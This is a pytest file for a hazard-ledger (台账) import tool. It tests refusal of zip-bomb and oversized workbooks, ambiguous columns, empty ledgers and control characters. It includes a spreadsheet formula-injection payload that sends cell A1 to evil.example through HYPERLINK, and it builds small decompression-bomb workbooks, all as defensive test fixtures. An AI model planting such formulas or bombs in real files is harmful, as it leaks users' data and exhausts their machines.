"""Importing a hostile or ambiguous ledger (台账): formula cells are read as their text; a workbook that would
exhaust the machine (a declared size of the whole sheet, a zip bomb, too many rows or columns) is refused quickly
with a sentence; two columns for one field, or no row of hazards, are refused instead of resolved silently; the
rule on text applies to every cell. The files are built here, small; the real command line, on SQLite and
PostgreSQL."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest

from tests.support.factories import TOWNSHIP
from tests.support.fixtures import Cli

NOW = "2025-04-02T12:00:00+08:00"
HEADER = ["来源编号", "隐患名称", "隐患描述", "领域", "等级", "乡镇(街道)", "发现时间", "上报人"]


def row(ref: str, title: str = "灭火器过期") -> list[Any]:
    return [ref, title, f"{ref} 小区灭火器过期", "消防安全", "一般", TOWNSHIP, "2025-03-03 09:00", "SX-YC-FS/张三"]


def write_csv(path: Path, rows: list[list[Any]], header: list[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows([header, *rows])
    return path


def _cell(ref: str, value: str) -> bytes:
    return f'<c r="{ref}" t="inlineStr"><is><t>{value}</t></is></c>'.encode()


def _row_xml(number: int, values: list[Any]) -> bytes:
    cells = b"".join(_cell(f"{chr(65 + i)}{number}", str(v)) for i, v in enumerate(values))
    return f'<row r="{number}">'.encode() + cells + b"</row>"


def workbook_with_sheet(path: Path, sheet_xml: bytes) -> Path:
    """A real workbook whose first sheet's XML is ``sheet_xml``."""
    from openpyxl import Workbook

    buf = io.BytesIO()
    Workbook().save(buf)
    source = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = sheet_xml if info.filename == "xl/worksheets/sheet1.xml" else source.read(info.filename)
            out.writestr(info.filename, data)
    return path


def sheet(*rows: bytes, dimension: str | None = None) -> bytes:
    head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    dim = f'<dimension ref="{dimension}"/>'.encode() if dimension else b""
    return head + dim + b"<sheetData>" + b"".join(rows) + b"</sheetData></worksheet>"


def refused(cli: Cli, path: Path, *words: str) -> str:
    before = cli.export(NOW)
    result = cli("import", str(path), now=NOW)
    assert result.exit_code == 2, result.stdout + result.stderr
    message = " ".join(result.stderr.split())
    assert "Traceback" not in message and path.name in message, message
    for word in words:
        assert word in message, message
    assert cli.export(NOW) == before
    return message


# --- formulas ---------------------------------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_a_formula_cell_is_imported_as_its_text_and_exported_as_text_again(cli: Cli, tmp_path: Path) -> None:
    from openpyxl import Workbook, load_workbook

    book = Workbook()
    book.active.append(HEADER)
    book.active.append(row("FX-1", title=FORMULA))  # openpyxl stores it as a formula, with no computed value
    path = tmp_path / "台账.xlsx"
    book.save(path)
    assert load_workbook(path).active["B2"].data_type == "f"
    cli.ok("import", str(path), now=NOW)
    assert cli.json("show", "FX-1", now=NOW)["title"] == FORMULA
    out = tmp_path / "out.xlsx"
    cli.ok("ledger", "--out", str(out), now=NOW)
    cells = [c for s in load_workbook(out).worksheets for r in s.iter_rows() for c in r if c.value]
    exported = next(c for c in cells if isinstance(c.value, str) and c.value.startswith(FORMULA))
    assert exported.data_type == "s"


# --- size -------------------------------------------------------------------------------------------------------


@pytest.mark.timeout(60)
def test_a_workbook_declaring_the_whole_sheet_as_its_size_is_read_quickly(cli: Cli, tmp_path: Path) -> None:
    path = workbook_with_sheet(
        tmp_path / "台账.xlsx", sheet(_row_xml(1, HEADER), _row_xml(2, row("DIM-1")), dimension="A1:XFD1048576")
    )
    assert path.stat().st_size < 10_000
    cli.ok("import", str(path), now=NOW)
    assert [h["ref"] for h in cli.json("hazards", now=NOW)] == ["DIM-1"]


@pytest.mark.timeout(60)
def test_a_workbook_that_unpacks_to_too_much_is_refused_before_it_is_read(cli: Cli, tmp_path: Path) -> None:
    huge = _row_xml(2, ["X" * (120 * 2**20)])
    path = workbook_with_sheet(tmp_path / "台账.xlsx", sheet(_row_xml(1, HEADER), huge))
    assert path.stat().st_size < 2 * 2**20
    refused(cli, path, "unpacks to 120 MB", "100 MB")


@pytest.mark.timeout(60)
def test_a_workbook_compressed_like_a_zip_bomb_is_refused(cli: Cli, tmp_path: Path) -> None:
    padding = b"<row r='3'/>" * (2 * 2**20)  # 24 MB of one repeated row: a thousand to one
    path = workbook_with_sheet(tmp_path / "台账.xlsx", sheet(_row_xml(1, HEADER), padding))
    refused(cli, path, "compressed", "to 1")


@pytest.mark.timeout(60)
def test_a_workbook_with_a_row_far_down_is_refused_for_its_rows(cli: Cli, tmp_path: Path) -> None:
    path = workbook_with_sheet(tmp_path / "台账.xlsx", sheet(_row_xml(1, HEADER), _row_xml(1048576, row("FAR-1"))))
    refused(cli, path, "200,000 rows")


def test_a_ledger_with_more_rows_than_the_limit_is_refused(
    cli: Cli, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import hazardloop.importer as importer

    monkeypatch.setattr(importer, "MAX_LEDGER_ROWS", 3)
    cli.ok("import", str(write_csv(tmp_path / "ok.csv", [row(f"R-{i}") for i in range(3)])), now=NOW)
    refused(cli, write_csv(tmp_path / "台账.csv", [row(f"S-{i}") for i in range(4)]), "more than 3 rows")


@pytest.mark.timeout(60)
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_ledger_with_too_many_columns_is_refused(cli: Cli, tmp_path: Path, suffix: str) -> None:
    header = HEADER + [f"备注{i}" for i in range(300)]
    if suffix == ".csv":
        path = write_csv(tmp_path / "台账.csv", [row("COL-1")], header=header)
    else:
        path = workbook_with_sheet(tmp_path / "台账.xlsx", sheet(_cell_row(1, header), _row_xml(2, row("COL-1"))))
    refused(cli, path, "200 columns")


def _cell_row(number: int, values: list[str]) -> bytes:
    from openpyxl.utils import get_column_letter

    cells = b"".join(_cell(f"{get_column_letter(i + 1)}{number}", v) for i, v in enumerate(values))
    return f'<row r="{number}">'.encode() + cells + b"</row>"


# --- ambiguity --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "words"),
    [
        (["编号", *HEADER], ("编号", "来源编号", "ref")),
        ([*HEADER[:2], "隐患名称", *HEADER[2:]], ("隐患名称", "twice")),
        ([*HEADER, "标题"], ("隐患名称", "标题", "title")),
    ],
    ids=["two-ref-columns", "same-header-twice", "two-title-columns"],
)
def test_two_columns_for_one_field_are_refused_naming_both(
    cli: Cli, tmp_path: Path, header: list[str], words: tuple[str, ...]
) -> None:
    rows = [["OTHER-1", *row("REF-1")] if header[0] == "编号" else row("REF-1")]
    if header == [*HEADER[:2], "隐患名称", *HEADER[2:]]:
        rows = [[*row("REF-1")[:2], "另一个名称", *row("REF-1")[2:]]]
    if header[-1] == "标题":
        rows = [[*row("REF-1"), "另一个名称"]]
    refused(cli, write_csv(tmp_path / "台账.csv", rows, header=header), *words, "line 1")


@pytest.mark.parametrize("content", ["header-only", "blank-rows", "empty-file"])
def test_a_ledger_without_a_row_of_hazards_is_refused(cli: Cli, tmp_path: Path, content: str) -> None:
    path = tmp_path / "台账.csv"
    if content == "empty-file":
        path.write_bytes(b"")
        refused(cli, path, "empty")
    else:
        write_csv(path, [] if content == "header-only" else [[""] * len(HEADER), [""] * len(HEADER)])
        refused(cli, path, "no row of hazards")


def test_a_ledger_cell_with_a_control_character_is_refused_naming_row_and_column(cli: Cli, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "台账.csv", [row("OK-1"), row("BAD-1", title="灭火器\x0b过期")])
    message = refused(cli, path, "line 3", "隐患名称", "U+000B")
    assert "line 2" not in message
